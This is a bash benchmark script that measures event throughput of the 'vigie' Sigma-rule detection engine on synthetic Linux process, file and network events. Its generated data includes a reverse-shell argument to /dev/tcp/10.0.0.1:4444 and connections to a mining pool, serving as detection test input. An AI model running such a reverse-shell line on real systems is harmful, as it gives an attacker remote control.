#!/usr/bin/env bash
# Detection throughput: a whole `vigie rules test` run (read JSON lines, route, match,
# print) over generated Linux events with every SigmaHQ Linux rule loaded. Prints
# events per second; asserts nothing. Débit de la détection ; affiche des chiffres.
#
# Usage: bench/rules.sh [RULES_DIR (default ../shared/sigma/rules/linux)] [EVENTS (default 500000)]
set -euo pipefail
cd "$(dirname "$0")/.."
RULES=${1:-../shared/sigma/rules/linux}
N=${2:-500000}
cargo build --release --bins -q
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
python3 - "$N" > "$WORK/events.jsonl" <<'PY'
import json, random, sys
random.seed(7)
n = int(sys.argv[1])
images = ["/usr/bin/bash", "/usr/bin/ls", "/usr/bin/python3", "/usr/sbin/sshd", "/usr/bin/curl", "/usr/bin/systemctl", "/usr/bin/cat", "/tmp/x"]
args = ["-la /var/log", "status nginx", "-c 'import os'", "-s https://mirror.local/pkg.tar.gz -o /tmp/pkg", "/etc/hosts", "-D", "--version", "-i >& /dev/tcp/10.0.0.1/4444 0>&1"]
for i in range(n):
    kind = i % 10
    if kind < 7:
        img = random.choice(images)
        ev = {"product": "linux", "category": "process_creation", "Image": img,
              "CommandLine": img.rsplit("/", 1)[1] + " " + random.choice(args),
              "ParentImage": random.choice(images), "User": random.choice(["root", "www-data", "alice"]),
              "CurrentDirectory": "/home/alice"}
    elif kind < 9:
        ev = {"product": "linux", "category": "file_event", "TargetFilename": random.choice(["/etc/passwd", "/tmp/a.sh", "/var/www/html/x.php", "/home/alice/notes.txt"]), "Image": random.choice(images)}
    else:
        ev = {"product": "linux", "category": "network_connection", "Image": random.choice(images), "DestinationIp": f"10.0.{i % 256}.{i % 200}", "DestinationPort": random.choice([22, 80, 443, 4444]), "DestinationHostname": random.choice(["mirror.local", "api.telegram.org", "pool.minexmr.com"]), "Initiated": "true"}
    print(json.dumps(ev))
PY
size=$(du -m "$WORK/events.jsonl" | cut -f1)
rules=$(target/release/vigie rules check "$RULES" | tail -1)
start=$(date +%s.%N)
target/release/vigie rules test --rules "$RULES" --events "$WORK/events.jsonl" > "$WORK/matches.jsonl"
end=$(date +%s.%N)
matches=$(wc -l < "$WORK/matches.jsonl")
awk -v s="$start" -v e="$end" -v n="$N" -v m="$matches" -v r="$rules" -v mb="$size" 'BEGIN {
    t = e - s
    printf "rules: %s\nevents: %d (%d MiB), matches: %d\ntime: %.2f s, %.0f events/s (one core)\n", r, n, mb, m, t, n / t
}'
echo "(reference whole-run figures quoted in issue 3: Zircolite ~39k/s, Hayabusa ~18k/s, Chainsaw ~4k/s)"

# The same with ten times the rules: each rule copied nine times with a new id and its
# quoted values changed, so the copies match nothing the originals match.
python3 - "$RULES" "$WORK/rules10" <<'PY'
import os, re, shutil, sys, uuid
src, dst = sys.argv[1], sys.argv[2]
shutil.copytree(src, os.path.join(dst, "original"))
for copy in range(1, 10):
    for root, _, files in os.walk(src):
        for name in files:
            if not name.endswith((".yml", ".yaml")):
                continue
            text = open(os.path.join(root, name), encoding="utf-8").read()
            text = re.sub(r"^id: .*$", f"id: {uuid.uuid4()}", text, count=1, flags=re.M)
            text = re.sub(r"'([^'\n]+)'", lambda m: f"'{m.group(1)}_copy{copy}'", text)
            out = os.path.join(dst, f"copy{copy}", os.path.relpath(root, src))
            os.makedirs(out, exist_ok=True)
            open(os.path.join(out, name), "w", encoding="utf-8").write(text)
PY
head -100000 "$WORK/events.jsonl" > "$WORK/events100k.jsonl"
for set in "$RULES" "$WORK/rules10"; do
    loaded=$(target/release/vigie rules check "$set" | tail -1 || true)
    start=$(date +%s.%N)
    target/release/vigie rules test --rules "$set" --events "$WORK/events100k.jsonl" > /dev/null
    end=$(date +%s.%N)
    awk -v s="$start" -v e="$end" -v r="$loaded" 'BEGIN { printf "100,000 events, %s: %.2f s, %.0f events/s\n", r, e - s, 100000 / (e - s) }'
done
